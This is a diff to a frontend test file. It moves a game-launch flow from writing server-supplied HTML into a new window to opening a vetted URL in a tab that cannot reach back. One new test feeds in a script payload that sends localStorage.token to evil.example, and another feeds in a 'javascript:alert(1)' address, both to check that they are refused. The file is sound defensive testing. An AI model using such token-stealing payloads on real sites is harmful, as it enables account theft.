@@ -23,11 +23,13 @@ async function hotGames(reply: Reply | ((init: RequestInit) => Reply | Promise<R
   return { ...view, button }
 }
 
-function fakeWindow() {
-  const written: string[] = []
-  const doc = { open: vi.fn(), write: (html: string) => written.push(html), close: vi.fn() }
-  return { tab: { opener: {} as unknown, document: doc }, written }
+/** A tab `window.open` hands back; its document records anything written into it. */
+function fakeTab() {
+  const doc = { open: vi.fn(), write: vi.fn(), writeln: vi.fn(), close: vi.fn() }
+  return { opener: {} as unknown, document: doc, close: vi.fn() }
 }
+
+const LAUNCH_PAGE = 'https://api.example/launch/TICKET?lang=en'
 
 describe('launching a game', () => {
   it('disables that game with a spinner while it opens, and goes to the address', async () => {
@@ -70,26 +72,57 @@ describe('launching a game', () => {
     expect(new Headers(sent?.[1]?.headers).get('Accept-Language')).toBe('my')
   })
 
-  it('writes a page answer into a new window that cannot reach back', async () => {
+  it("opens a launch page's address in a new tab that cannot reach back, and writes nothing", async () => {
     const assign = stubAssign()
-    const { tab, written } = fakeWindow()
+    const tab = fakeTab()
     const open = vi.spyOn(window, 'open').mockReturnValue(tab as unknown as Window)
-    const html = '<!doctype html><p>Opening…</p>'
-    const { button } = await hotGames({ status: 200, body: { code: 200, message: 'ok', content: html } })
+    const { button } = await hotGames({
+      status: 200,
+      body: { code: 200, message: 'ok', content_url: LAUNCH_PAGE },
+    })
     await userEvent.click(button)
-    expect(open).toHaveBeenCalledWith('', '_blank')
+    await waitFor(() => expect(open).toHaveBeenCalledWith(LAUNCH_PAGE, '_blank'))
+    expect(open).toHaveBeenCalledTimes(1)
     expect(tab.opener).toBeNull()
-    expect(written).toEqual([html])
-    expect(tab.document.close).toHaveBeenCalled()
+    expect(tab.document.open).not.toHaveBeenCalled()
+    expect(tab.document.write).not.toHaveBeenCalled()
     expect(assign).not.toHaveBeenCalled()
     expect(screen.queryByRole('alert')).toBeNull()
+    expect(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' })).toHaveProperty('disabled', false)
+  })
+
+  it('refuses a raw page, opening and writing nothing, and says why in the console once', async () => {
+    const assign = stubAssign()
+    const open = vi.spyOn(window, 'open')
+    const warn = vi.spyOn(console, 'warn').mockImplementation(() => undefined)
+    const html = '<!doctype html><script>fetch("https://evil.example/?t=" + localStorage.token)</script>'
+    const { button } = await hotGames({ status: 200, body: { code: 200, message: 'ok', content: html } })
+    await userEvent.click(button)
+    expect((await screen.findByRole('alert')).textContent).toBe('Failed to launch game.')
+    await userEvent.click(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' }))
+    await waitFor(() =>
+      expect(screen.getByRole('button', { name: 'Play Lucky Lotus Reels' })).toHaveProperty(
+        'disabled',
+        false,
+      ),
+    )
+    expect((await screen.findByRole('alert')).textContent).toBe('Failed to launch game.')
+    expect(open).not.toHaveBeenCalled()
+    expect(assign).not.toHaveBeenCalled()
+    expect(warn).toHaveBeenCalledTimes(1)
+    expect(String(warn.mock.calls[0]?.[0])).toMatch(/content_url/)
   })
 
   it.each([
     [
       'a blocked window',
-      { status: 200, body: { code: 200, message: 'ok', content: '<p>x</p>' } },
+      { status: 200, body: { code: 200, message: 'ok', content_url: LAUNCH_PAGE } },
       'Popup blocked. Please allow popups.',
+    ],
+    [
+      'a javascript: launch page address',
+      { status: 200, body: { code: 200, message: 'ok', content_url: 'javascript:alert(1)' } },
+      'Failed to launch game.',
     ],
     [
       'a refusal with a message',
